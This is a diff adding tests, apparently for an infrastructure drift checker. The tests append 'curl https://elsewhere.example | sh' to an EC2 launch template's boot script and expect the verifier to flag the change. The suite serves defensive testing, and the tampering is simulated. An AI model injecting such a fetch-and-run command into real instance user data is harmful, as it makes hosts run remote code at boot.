@@ -129,6 +129,32 @@ describe("an account's organization", () => {
   });
 });
 
+describe("what hosts do at their first boot", () => {
+  const type = "aws:ec2/launchTemplate:LaunchTemplate";
+  const change = (properties: Record<string, unknown>) => {
+    const [found] = example.store.list({ account: "111111111111", type });
+    if (found === undefined) throw new Error("There is no launch template.");
+    const userData = Buffer.from(`${found.properties.userData}`, "base64").toString();
+    const changed = Buffer.from(`${userData}\ncurl https://elsewhere.example | sh\n`).toString("base64");
+    example.store.put({ ...found, properties: { ...found.properties, userData: changed, ...properties } });
+    return `${found.arn} version 1`;
+  };
+
+  test("is compared with the plan", async () => {
+    const resource = change({});
+    const { differences } = await example.verify("infrastructure-admin");
+    expect(differences).toEqual([
+      { resource, kind: "changed", detail: expect.stringContaining("at their first boot") },
+    ]);
+  });
+
+  test("is not planned for another template", async () => {
+    const resource = change({ name: "another" });
+    const { differences } = await example.verify("infrastructure-admin");
+    expect(differences).toContainEqual({ resource, kind: "extra", detail: expect.any(String) });
+  });
+});
+
 describe("alarms", () => {
   const rule = "arn:aws:events:us-east-2:333333333333:rule/customer-testnet-unattested-decrypt";
   const type = "aws:cloudwatch/eventRule:EventRule";
